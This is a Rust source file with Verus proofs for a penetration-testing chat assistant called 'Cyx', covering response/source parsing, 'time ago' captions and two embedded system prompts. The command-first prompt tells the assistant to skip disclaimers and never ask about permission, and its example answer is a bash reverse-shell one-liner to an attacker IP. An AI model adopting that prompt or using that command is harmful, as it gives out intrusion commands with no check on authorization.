//! The pure pieces of the interactive session: the system prompts, the
//! parser that separates a response body from its source list, and the
//! age captions shown for cached answers.  Talking to a provider and
//! rendering output happen in the binary around this library.

use vstd::prelude::*;
use crate::chars::{
    chars_to_string, find_from, find_sub, string_to_chars, trim, trim_spec,
};
use crate::textnum::{dec_str, u64_to_string};

verus! {

/// The marker line that separates a response from its sources.
pub const SOURCES_MARKER: &'static str = "[SOURCES]";

/// Splits `s` into pieces at every newline, keeping empty pieces.
pub open spec fn nl_pieces(s: Seq<char>, cur: Seq<char>) -> Seq<Seq<char>>
    decreases s.len(),
{
    if s.len() == 0 {
        seq![cur]
    } else if s[0] == '\n' {
        seq![cur] + nl_pieces(s.drop_first(), Seq::empty())
    } else {
        nl_pieces(s.drop_first(), cur.push(s[0]))
    }
}

/// A line with a trailing carriage return removed.
pub open spec fn strip_cr(t: Seq<char>) -> Seq<char> {
    if t.len() > 0 && t.last() == '\r' {
        t.drop_last()
    } else {
        t
    }
}

/// The lines of `s`, as `str::lines` yields them: split at newlines, a
/// carriage return before each newline dropped, and no final empty line
/// for a trailing newline.
pub open spec fn lines_spec(s: Seq<char>) -> Seq<Seq<char>> {
    let ps = nl_pieces(s, Seq::empty()).map_values(|t: Seq<char>| strip_cr(t));
    if s.len() == 0 {
        Seq::empty()
    } else if s.last() == '\n' {
        ps.drop_last()
    } else {
        ps
    }
}

/// The source entries among `ls`: every line that, trimmed, starts with
/// a dash contributes what follows the dash, trimmed again.
pub open spec fn parse_source_lines(ls: Seq<Seq<char>>) -> Seq<Seq<char>>
    decreases ls.len(),
{
    if ls.len() == 0 {
        Seq::empty()
    } else {
        let t = trim_spec(ls[0]);
        let rest = parse_source_lines(ls.drop_first());
        if t.len() > 0 && t[0] == '-' {
            seq![trim_spec(t.drop_first())] + rest
        } else {
            rest
        }
    }
}

/// All lines but the first.
pub open spec fn tail_lines(ls: Seq<Seq<char>>) -> Seq<Seq<char>> {
    if ls.len() == 0 {
        ls
    } else {
        ls.drop_first()
    }
}

/// What `extract_sources` returns: at the first occurrence of the
/// sources marker the text splits into the trimmed body and the sources
/// parsed from the lines after the marker line; without a marker the
/// whole text is the body.
pub open spec fn extract_spec(r: Seq<char>) -> (Seq<char>, Seq<Seq<char>>) {
    match find_from(r, SOURCES_MARKER@, 0) {
        None => (r, Seq::empty()),
        Some(p) => (
            trim_spec(r.take(p)),
            parse_source_lines(tail_lines(lines_spec(r.skip(p)))),
        ),
    }
}

/// Splits the lines of `v`, as `str::lines` does.
fn split_lines(v: &Vec<char>) -> (r: Vec<Vec<char>>)
    ensures
        r.deep_view() == lines_spec(v@),
{
    let n = v.len();
    let mut pieces: Vec<Vec<char>> = Vec::new();
    let mut cur: Vec<char> = Vec::new();
    let mut i: usize = 0;
    proof {
        assert(v@.skip(0) =~= v@);
    }
    while i < n
        invariant
            n == v@.len(),
            0 <= i <= n,
            nl_pieces(v@, Seq::empty()) == pieces.deep_view() + nl_pieces(
                v@.skip(i as int),
                cur@,
            ),
        decreases n - i,
    {
        let c = v[i];
        proof {
            assert(v@.skip(i as int)[0] == v@[i as int]);
            assert(v@.skip(i as int).drop_first() =~= v@.skip(i as int + 1));
        }
        if c == '\n' {
            let ghost old_dv = pieces.deep_view();
            let ghost cur_snap = cur@;
            pieces.push(cur);
            cur = Vec::new();
            proof {
                assert(pieces.deep_view() =~~= old_dv + seq![cur_snap]);
                assert(cur@ =~= Seq::<char>::empty());
            }
        } else {
            cur.push(c);
        }
        i = i + 1;
    }
    proof {
        assert(v@.skip(n as int) =~= Seq::<char>::empty());
    }
    let ghost old_dv = pieces.deep_view();
    let ghost cur_snap = cur@;
    pieces.push(cur);
    proof {
        assert(pieces.deep_view() =~~= old_dv + seq![cur_snap]);
        assert(pieces.deep_view() =~~= nl_pieces(v@, Seq::empty()));
    }
    // strip carriage returns
    let np = pieces.len();
    let mut lines: Vec<Vec<char>> = Vec::new();
    let mut k: usize = 0;
    while k < np
        invariant
            np == pieces@.len(),
            pieces.deep_view() == nl_pieces(v@, Seq::empty()),
            0 <= k <= np,
            lines@.len() == k,
            forall|p: int|
                0 <= p < k ==> (#[trigger] lines@[p])@ == strip_cr(pieces.deep_view()[p]),
        decreases np - k,
    {
        let piece = &pieces[k];
        let pl = piece.len();
        let mut line: Vec<char> = Vec::new();
        let target: usize = if pl > 0 && piece[pl - 1] == '\r' {
            pl - 1
        } else {
            pl
        };
        let mut q: usize = 0;
        while q < target
            invariant
                target <= pl,
                pl == piece@.len(),
                0 <= q <= target,
                line@ == piece@.take(q as int),
            decreases target - q,
        {
            line.push(piece[q]);
            proof {
                assert(piece@.take(q + 1) =~= piece@.take(q as int).push(piece@[q as int]));
            }
            q = q + 1;
        }
        proof {
            assert(pieces.deep_view()[k as int] == pieces@[k as int]@);
            if pl > 0 && piece@[pl - 1] == '\r' {
                assert(piece@.take(target as int) =~= piece@.drop_last());
            } else {
                assert(piece@.take(target as int) =~= piece@);
            }
            assert(line@ == strip_cr(pieces.deep_view()[k as int]));
        }
        lines.push(line);
        k = k + 1;
    }
    proof {
        let full = nl_pieces(v@, Seq::empty()).map_values(|t: Seq<char>| strip_cr(t));
        assert forall|p: int| 0 <= p < np implies lines.deep_view()[p] == full[p] by {
            assert(lines.deep_view()[p] == lines@[p]@);
        }
        assert(lines.deep_view() =~= full);
    }
    // drop the final empty line that a trailing newline produces
    if n > 0 && v[n - 1] == '\n' {
        let ghost before = lines.deep_view();
        let dropped = lines.pop();
        proof {
            assert(lines.deep_view() =~~= before.drop_last());
        }
        lines
    } else {
        proof {
            if v@.len() == 0 {
                assert(nl_pieces(v@, Seq::empty()) == seq![Seq::<char>::empty()]);
                assert(lines.deep_view().len() == 1);
            }
        }
        if n == 0 {
            let empty_out: Vec<Vec<char>> = Vec::new();
            proof {
                assert(empty_out.deep_view() =~= lines_spec(v@));
            }
            return empty_out;
        }
        lines
    }
}

/// Separates a response from its source list: everything before the
/// first sources marker is the body (trimmed), and each line after the
/// marker line that starts with a dash names one source.
pub fn extract_sources(response: &str) -> (r: (String, Vec<String>))
    ensures
        r.0@ == extract_spec(response@).0,
        r.1.deep_view() == extract_spec(response@).1,
{
    let cs = string_to_chars(response);
    let marker = string_to_chars(SOURCES_MARKER);
    match find_sub(&cs, &marker) {
        None => {
            let body = chars_to_string(&cs);
            let none: Vec<String> = Vec::new();
            proof {
                assert(none.deep_view() =~= Seq::<Seq<char>>::empty());
            }
            (body, none)
        },
        Some(p) => {
            proof {
                crate::chars::lemma_find_from_props(cs@, marker@, 0);
            }
            let mut head: Vec<char> = Vec::new();
            let mut i: usize = 0;
            while i < p
                invariant
                    p <= cs@.len(),
                    0 <= i <= p,
                    head@ == cs@.take(i as int),
                decreases p - i,
            {
                head.push(cs[i]);
                proof {
                    assert(cs@.take(i + 1) =~= cs@.take(i as int).push(cs@[i as int]));
                }
                i = i + 1;
            }
            let body_chars = trim(&head);
            let body = chars_to_string(&body_chars);
            let mut section: Vec<char> = Vec::new();
            let n = cs.len();
            let mut j: usize = p;
            while j < n
                invariant
                    n == cs@.len(),
                    p <= j <= n,
                    section@ == cs@.subrange(p as int, j as int),
                decreases n - j,
            {
                section.push(cs[j]);
                proof {
                    assert(cs@.subrange(p as int, j + 1) =~= cs@.subrange(p as int, j as int).push(
                        cs@[j as int],
                    ));
                }
                j = j + 1;
            }
            proof {
                assert(section@ =~= cs@.skip(p as int));
            }
            let all_lines = split_lines(&section);
            let mut sources: Vec<String> = Vec::new();
            let nl = all_lines.len();
            let ghost tl = tail_lines(lines_spec(cs@.skip(p as int)));
            let mut k: usize = 1;
            proof {
                if nl > 0 {
                    assert(tl =~= all_lines.deep_view().skip(1));
                }
                assert(tl.skip(0) =~= tl);
            }
            if nl == 0 {
                proof {
                    assert(tl.len() == 0);
                    assert(sources.deep_view() =~= parse_source_lines(tl));
                }
                return (body, sources);
            }
            while k < nl
                invariant
                    nl == all_lines@.len(),
                    nl > 0,
                    tl == tail_lines(lines_spec(cs@.skip(p as int))),
                    tl =~= all_lines.deep_view().skip(1),
                    forall|q: int|
                        0 <= q < nl ==> all_lines.deep_view()[q] == (
                        #[trigger] all_lines@[q])@,
                    1 <= k <= nl,
                    parse_source_lines(tl) == sources.deep_view() + parse_source_lines(
                        tl.skip(k - 1),
                    ),
                decreases nl - k,
            {
                proof {
                    assert(tl.skip(k - 1)[0] == tl[k - 1]);
                    assert(tl[k - 1] == all_lines.deep_view()[k as int]);
                    assert(tl.skip(k - 1).drop_first() =~= tl.skip(k as int));
                }
                let line = trim(&all_lines[k]);
                if line.len() > 0 && line[0] == '-' {
                    let mut rest: Vec<char> = Vec::new();
                    let ll = line.len();
                    let mut q: usize = 1;
                    while q < ll
                        invariant
                            ll == line@.len(),
                            1 <= q <= ll,
                            rest@ == line@.subrange(1, q as int),
                        decreases ll - q,
                    {
                        rest.push(line[q]);
                        proof {
                            assert(line@.subrange(1, q + 1) =~= line@.subrange(1, q as int).push(
                                line@[q as int],
                            ));
                        }
                        q = q + 1;
                    }
                    proof {
                        assert(rest@ =~= line@.drop_first());
                    }
                    let cleaned = trim(&rest);
                    let src = chars_to_string(&cleaned);
                    let ghost before = sources.deep_view();
                    sources.push(src);
                    proof {
                        assert(sources.deep_view() =~~= before.push(
                            trim_spec(line@.drop_first()),
                        ));
                        assert(parse_source_lines(tl.skip(k - 1)) == seq![trim_spec(
                            line@.drop_first(),
                        )] + parse_source_lines(tl.skip(k as int)));
                        assert(sources.deep_view() + parse_source_lines(tl.skip(k as int)) =~= before
                            + parse_source_lines(tl.skip(k - 1)));
                    }
                } else {
                    proof {
                        assert(parse_source_lines(tl.skip(k - 1)) == parse_source_lines(
                            tl.skip(k as int),
                        ));
                    }
                }
                k = k + 1;
            }
            proof {
                assert(tl.skip(nl - 1) =~= Seq::<Seq<char>>::empty());
                assert(sources.deep_view() + parse_source_lines(Seq::<Seq<char>>::empty())
                    =~= sources.deep_view());
            }
            (body, sources)
        },
    }
}

/// The caption for how long ago a moment lies: coarse buckets from
/// "just now" through minutes, hours and days up to months.
pub open spec fn duration_ago_spec(d: int) -> Seq<char> {
    if d < 60 {
        "just now"@
    } else if d / 60 < 60 {
        dec_str(d / 60) + (if d / 60 == 1 {
            " minute ago"@
        } else {
            " minutes ago"@
        })
    } else if d / 3600 < 24 {
        dec_str(d / 3600) + (if d / 3600 == 1 {
            " hour ago"@
        } else {
            " hours ago"@
        })
    } else if d / 86400 < 30 {
        dec_str(d / 86400) + (if d / 86400 == 1 {
            " day ago"@
        } else {
            " days ago"@
        })
    } else {
        dec_str(d / 86400 / 30) + (if d / 86400 / 30 == 1 {
            " month ago"@
        } else {
            " months ago"@
        })
    }
}

/// The caption for a moment `then` seen from `now`, both epoch seconds.
pub fn format_duration_ago(now: i64, then: i64) -> (r: String)
    ensures
        r@ == duration_ago_spec(now - then),
{
    let d: i128 = (now as i128) - (then as i128);
    if d < 60 {
        return "just now".to_owned();
    }
    let du: u64 = d as u64;
    proof {
        assert(du as int == now - then);
        assert(du as int / 60 == d as int / 60);
    }
    if du / 60 < 60 {
        let m = du / 60;
        let mut text = u64_to_string(m);
        if m == 1 {
            text.append(" minute ago");
        } else {
            text.append(" minutes ago");
        }
        text
    } else if du / 3600 < 24 {
        let h = du / 3600;
        let mut text = u64_to_string(h);
        if h == 1 {
            text.append(" hour ago");
        } else {
            text.append(" hours ago");
        }
        text
    } else if du / 86400 < 30 {
        let dd = du / 86400;
        let mut text = u64_to_string(dd);
        if dd == 1 {
            text.append(" day ago");
        } else {
            text.append(" days ago");
        }
        text
    } else {
        let mo = (du / 86400) / 30;
        let mut text = u64_to_string(mo);
        if mo == 1 {
            text.append(" month ago");
        } else {
            text.append(" months ago");
        }
        text
    }
}


/// The command-first system prompt.
pub const SYSTEM_PROMPT: &'static str = r#"You are Cyx, an elite cybersecurity command companion for penetration testers and security students.

CONTEXT & ETHICS:
The user is either:
1. A professional penetration tester with authorized access
2. A security student learning in controlled environments
3. A researcher working on their own systems or with explicit permission

All techniques discussed are for:
- Authorized penetration testing engagements
- Capture The Flag (CTF) competitions
- Educational purposes in controlled labs
- Security research with proper authorization
- Defensive security understanding

RESPONSE PHILOSOPHY:
You are a COMMAND-FIRST assistant. Practitioners need fast, accurate commands - not lectures.
Think of yourself as an instant reference manual, not a teacher.

CRITICAL RULES:
1. COMMAND FIRST - Always lead with the exact command/code
2. ZERO FLUFF - No introductions, no "certainly", no pleasantries
3. ONE-LINERS - Prefer single powerful commands over explanations
4. BREVITY - Max 1-2 sentences explanation per command
5. PRACTICAL ONLY - Skip theory unless explicitly requested
6. NO DISCLAIMERS - User authorization is assumed
7. CODE BLOCKS - Always use ```bash, ```python, ```powershell etc.

RESPONSE FORMAT (STRICT):
```bash
command --flags target
```
What it does (1 sentence). When to use it (1 sentence if needed).

KNOWLEDGE AREAS (prioritize these):
- Network scanning (nmap, masscan, rustscan)
- Web application testing (burp, sqlmap, ffuf, gobuster)
- Password attacks (hydra, john, hashcat, crackmapexec)
- Exploitation (metasploit, msfvenom, exploit-db)
- Post-exploitation (mimikatz, bloodhound, winPEAS, linPEAS)
- Privilege escalation (GTFOBins, LOLBAS, sudo, SUID)
- Active Directory (bloodhound, powerview, rubeus, certutil)
- Wireless (aircrack-ng, wifite, kismet)
- Reverse engineering (ghidra, radare2, gdb)
- OSINT (amass, subfinder, theHarvester)

EXAMPLES OF PERFECT RESPONSES:

Q: nmap stealth scan
A:
```bash
nmap -sS <target>
```
TCP SYN scan - doesn't complete handshake, harder to detect. Requires root.

Q: sql injection test
A:
```bash
sqlmap -u "http://target/page?id=1" --batch --dbs
```
Auto-detects and extracts databases. --batch for no prompts.

Q: reverse shell
A:
```bash
bash -i >& /dev/tcp/10.10.10.10/4444 0>&1
```
One-liner reverse shell to attacker IP:port. Run nc -lvnp 4444 on attacker first.

ANTI-PATTERNS (NEVER DO THIS):
- "Certainly! I'd be happy to help..."
- "Before we begin, it's important to note..."
- Long explanations before commands
- Asking if user has permission
- Disclaimers about legal/ethical use
- Tutorial-style explanations

CITATIONS & SOURCES:
CRITICAL: NEVER use numbered references like [1], [2], [3] in your responses.

At the very END of your response, after all content, append a sources section in this EXACT format:

[SOURCES]
- Description: Full URL
- Description: Full URL

Example:
[SOURCES]
- nmap documentation: https://nmap.org/book/
- RFC 793 (TCP): https://www.ietf.org/rfc/rfc793.txt

Keep your main response clean without inline citations. Save ALL source links for the [SOURCES] section at the end.

REMEMBER: Pentesters are under time pressure. Every second counts. Fast, accurate commands save engagements."#;

/// The educational system prompt used in learn mode.
pub const LEARN_SYSTEM_PROMPT: &'static str = r#"You are Cyx in LEARN MODE - an educational cybersecurity command companion for penetration testers and security students.

CONTEXT & ETHICS:
The user is either:
1. A professional penetration tester with authorized access
2. A security student learning in controlled environments
3. A researcher working on their own systems or with explicit permission

All techniques discussed are for:
- Authorized penetration testing engagements
- Capture The Flag (CTF) competitions
- Educational purposes in controlled labs
- Security research with proper authorization
- Defensive security understanding

RESPONSE PHILOSOPHY - LEARN MODE:
In learn mode, you provide BOTH the command AND a detailed educational breakdown.
Help the user understand not just WHAT to run, but HOW it works and WHY.

RESPONSE FORMAT (STRICT):

First, provide the command as usual:
```bash
command --flags target
```
Brief explanation (1-2 sentences).

Then, provide a detailed breakdown under these headers:

Tool: [tool name]
  Detailed description, author, purpose, license

Flags:
  --flag-name    Detailed explanation of what this flag does
                 - How it works technically
                 - Requirements or prerequisites
                 - Performance characteristics

How it works:
  Step-by-step technical explanation of the process

Advantages:
  - Why you'd use this approach
  - Performance benefits
  - Stealth considerations

Disadvantages:
  - Limitations
  - Detection risks
  - Requirements that might not be met

When to use:
  Specific scenarios and use cases

Alternatives:
  Other commands/approaches and when to use them instead

Example usage:
  Real-world examples with actual syntax

IMPORTANT REQUIREMENTS:
1. Be ACCURATE - Only provide factually correct information
2. CITE SOURCES - NEVER use numbered references like [1][2][3]. Instead:
   - Use full URLs: "nmap documentation (https://nmap.org/book/)"
   - Use clear names: "According to RFC 793 (TCP specification)..."
   - Use inline citations: "Source: HackTricks (book.hacktricks.xyz)"
   - Provide actual URLs or document names, NOT bracketed numbers
3. FLAG BREAKDOWN - Explain every flag in detail
4. TECHNICAL DEPTH - Explain how things work at a protocol/system level
5. PRACTICAL EXAMPLES - Show real-world usage with actual syntax
6. ALTERNATIVES - Always mention other tools/techniques
7. CONTEXT - Explain when to use vs when not to use

EXAMPLE LEARN MODE RESPONSE:

Q: nmap stealth scan
A:
```bash
nmap -sS <target>
```
TCP SYN scan - doesn't complete handshake, harder to detect. Requires root.

Tool: nmap (Network Mapper)
  Industry-standard network scanner for reconnaissance and security auditing
  Created by Gordon Lyon (Fyodor)
  Open source (GPL license)
  Available on Linux, Windows, macOS

Flags:
  -sS    TCP SYN Scan (Stealth Scan)
         - Sends TCP SYN packet to each target port
         - Waits for SYN-ACK (open) or RST (closed) response
         - Sends RST to close connection before handshake completes
         - Requires root/sudo for raw socket access
         - Faster than full TCP connect scan (-sT)
         - May not be logged by some older systems

  <target>  Target specification
           - Single IP: 192.168.1.1
           - Hostname: example.com
           - CIDR range: 10.0.0.0/24
           - Multiple: 192.168.1.1-50

How it works:
  1. Sends TCP SYN packet to target port
  2. If port open: receives SYN-ACK, marks as open, sends RST
  3. If port closed: receives RST, marks as closed
  4. If filtered: no response or ICMP unreachable

Advantages:
  - Fast: doesn't complete full TCP three-way handshake
  - Stealthy: may not appear in application logs
  - Reliable: accurately distinguishes open/closed/filtered states
  - Default scan type for most nmap users

Disadvantages:
  - Requires root/sudo privileges (raw sockets)
  - Can be detected by modern IDS/IPS systems
  - Some firewalls may block or rate-limit SYN packets
  - Won't bypass SYN flood protection

When to use:
  - Default choice for most port scans
  - When you have root access
  - Initial network reconnaissance
  - When you need speed over stealth

Alternatives:
  -sT    TCP connect scan (no root needed, but slower and logged)
  -sN    TCP NULL scan (may bypass some firewalls)
  -sF    TCP FIN scan (may bypass some firewalls)
  -sA    TCP ACK scan (for firewall rule mapping)

Example usage:
  nmap -sS 192.168.1.100              # Single host
  nmap -sS 192.168.1.0/24             # Entire subnet
  nmap -sS -p 22,80,443 example.com   # Specific ports
  nmap -sS -p- example.com            # All 65535 ports

[SOURCES]
- nmap official documentation: https://nmap.org/book/
- RFC 793 (TCP specification): https://www.ietf.org/rfc/rfc793.txt
- nmap man page: https://linux.die.net/man/1/nmap

CRITICAL - CITATION FORMAT:
NEVER use numbered references like [1], [2], [3] anywhere in your response.

At the very END of your response, after ALL content, append sources in this EXACT format:

[SOURCES]
- Description: Full URL
- Description: Full URL

Keep your main response body clean. Save ALL source URLs for the [SOURCES] section at the very end.

REMEMBER: LEARN MODE is about education. Be thorough, accurate, and cite sources with FULL URLs in the [SOURCES] section at the end."#;

/// The system prompt for normal operation.
pub fn create_system_prompt() -> (r: String)
    ensures
        r@ == SYSTEM_PROMPT@,
{
    SYSTEM_PROMPT.to_owned()
}

/// The system prompt for learn mode.
pub fn create_learn_system_prompt() -> (r: String)
    ensures
        r@ == LEARN_SYSTEM_PROMPT@,
{
    LEARN_SYSTEM_PROMPT.to_owned()
}


} // verus!
